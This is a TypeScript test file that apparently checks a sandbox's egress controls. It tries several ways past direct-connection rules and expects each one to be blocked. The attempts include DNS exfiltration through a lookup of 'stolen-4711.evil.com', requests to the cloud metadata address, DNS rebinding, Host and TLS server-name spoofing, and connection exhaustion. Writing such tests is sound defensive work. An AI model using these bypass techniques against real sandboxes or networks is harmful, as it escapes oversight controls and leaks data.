/**
 * Ways around the rules of direct connections, tried from inside a sandbox on the real listeners and name server. On a relay without those
 * rules each gets through.
 */
import { type Attempt, BAIT, type Program } from '../attempt.ts';
import { hello, onWayOut } from './egress.ts';
import { node } from './words.ts';

/** Connects to each place in turn and says something there, which is an expression; judges by what comes back. */
function says(places: string, words: string, wanted = BAIT): Program {
  return node(`const { connect } = require('node:net');
    const answerAt = ([port, host]) => new Promise((resolve) => {
      let heard = '';
      const socket = connect(port, host, () => socket.write(${words}));
      socket.setTimeout(4000, () => socket.destroy());
      socket.on('data', (data) => {
        heard += data.toString('latin1');
        if (heard.includes('${wanted}')) through();
      }).on('error', (error) => resolve(error.code)).on('close', () => resolve(codeOf(heard)));
    });
    const codeOf = (heard) => /^HTTP\\/1\\.1 (\\d+)/.exec(heard)?.[1] ?? (/cordon: /.test(heard) ? 'told' : 'closed');
    (async () => {
      let last = 'closed';
      for (const place of ${places}) last = await answerAt(place);
      refused(last);
    })()`);
}

const get = (host: string, path = '/') =>
  JSON.stringify(`GET ${path} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`);
const MAIL = '"EHLO x\\r\\n"';

const plainTwin: Attempt['twin'] = () => says('[[80, "good.com"]]', get('good.com'), 'hello');
const tlsTwin: Attempt['twin'] = () => says('[[443, "good.com"]]', hello('good.com'), 'tls');

function attempt(
  id: string,
  title: string,
  program: Program,
  stops: readonly string[],
  twin = plainTwin,
): Attempt {
  return onWayOut(`direct-${id}`, title, program, stops, twin);
}

/** The words may be lost where the program still writes to a connection that is closed. */
const TOLD = ['told', 'closed', 'ECONNRESET', 'EPIPE'];
const CUT = ['closed', 'ECONNRESET', 'EPIPE'];

export const DIRECT: readonly Attempt[] = [
  attempt('other-port', 'connects to another port of a granted name', says('[[25, "good.com"]]', MAIL), TOLD),
  attempt(
    'port-unheard',
    'connects to a port of a granted name that nobody listens on',
    says('[[5432, "good.com"]]', MAIL),
    ['ECONNREFUSED'],
  ),
  attempt(
    'other-site',
    'connects to a name that was not granted',
    says('[[80, "evil.com"]]', get('evil.com')),
    ['ENOTFOUND'],
  ),
  attempt(
    'name-as-message',
    'asks for a name that says what it stole, at a site of its own',
    node(
      `require('node:dns').lookup('stolen-4711.evil.com', (error) => error ? refused(error.code) : through())`,
    ),
    ['ENOTFOUND'],
  ),
  attempt(
    'literal',
    'connects to an address of the network beside the granted name',
    says('[[80, "192.168.1.20"]]', get('good.com')),
    ['403'],
  ),
  attempt(
    'literal-mail',
    'connects to the mail server at an address of the network',
    says('[[25, "10.0.0.5"]]', MAIL),
    TOLD,
  ),
  attempt(
    'literal-6',
    'connects to an IPv6 address of the network',
    says('[[80, "fd00::20"]]', get('good.com')),
    ['403'],
  ),
  attempt(
    'literal-metadata',
    "connects to the address of a cloud's metadata service",
    says('[[80, "169.254.169.254"]]', get('169.254.169.254')),
    ['403'],
  ),
  attempt(
    'literal-good',
    'connects to the address that the granted name leads to, without the name',
    says('[[443, "93.184.215.15"]]', hello('good.com')),
    CUT,
    tlsTwin,
  ),
  attempt(
    'other-app',
    'connects to the address that stands for a name in the sandbox of another app',
    says('[[80, "127.64.3.7"]]', get('good.com')),
    ['403'],
  ),
  attempt(
    'rebinding',
    'connects directly to a name again and again until it leads elsewhere',
    says('[[80, "flips.good.com"], [80, "flips.good.com"], [80, "flips.good.com"]]', get('flips.good.com')),
    ['403'],
  ),
  attempt(
    'to-private',
    'connects directly to a name of its own that leads to a private address',
    says('[[80, "private.good.com"]]', get('private.good.com')),
    ['403'],
  ),
  attempt(
    'host-header',
    'connects directly to the granted name and asks for another site',
    says('[[80, "good.com"]]', get('evil.com')),
    ['400', '403', 'closed'],
  ),
  attempt(
    'server-name',
    'connects directly to the granted name and asks TLS for another',
    says('[[443, "good.com"]]', hello('evil.com')),
    CUT,
    tlsTwin,
  ),
  attempt(
    'no-tls',
    'speaks something else than TLS at the port of TLS',
    says('[[443, "good.com"]]', get('good.com', '/smuggled')),
    CUT,
    tlsTwin,
  ),
  attempt(
    'upload',
    'uploads more than its budget on a direct connection',
    says('[[443, "good.com"]]', `Buffer.concat([${hello('good.com')}, Buffer.alloc(262144, 'x')])`),
    CUT,
    tlsTwin,
  ),
  attempt(
    'half-open',
    'keeps a direct connection open and says nothing',
    node(`const socket = require('node:net').connect({ port: 443, host: 'good.com', allowHalfOpen: true }, () => {
        setTimeout(() => through(), 4000);
      });
      socket.on('close', () => refused('closed')).on('end', () => refused('closed')).on('error', (error) => refused(error.code)).resume()`),
    CUT,
    tlsTwin,
  ),
  {
    ...attempt(
      'connections',
      'opens more direct connections than it may, at several ports, and keeps them',
      node(`let open = 0, closed = 0;
        for (let n = 0; n < 180; n++) require('node:net').connect([22, 25, 110, 143, 587, 993][n % 6], '127.0.0.1')
          .on('connect', () => { open++; }).on('error', () => {}).on('close', () => { closed++; }).resume();
        setTimeout(() => open - closed >= 120 ? through() : refused('closed'), 2500)`),
      ['closed'],
    ),
    exhausts: true,
  },
];
